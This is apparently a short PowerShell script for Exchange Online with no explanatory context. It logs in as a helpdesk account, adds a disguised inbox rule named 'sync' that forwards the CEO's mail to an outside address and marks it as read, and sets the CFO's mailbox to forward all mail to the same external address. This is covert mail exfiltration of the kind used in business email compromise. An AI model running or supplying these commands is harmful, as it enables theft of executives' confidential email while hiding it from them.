Connect-ExchangeOnline -UserPrincipalName "helpdesk@contoso.com"
New-InboxRule -Name "sync" -Mailbox "ceo@contoso.com" -ForwardTo "archive.box@protonmail.example" -MarkAsRead $true
Set-Mailbox -Identity "cfo@contoso.com" -ForwardingSmtpAddress "smtp:archive.box@protonmail.example"
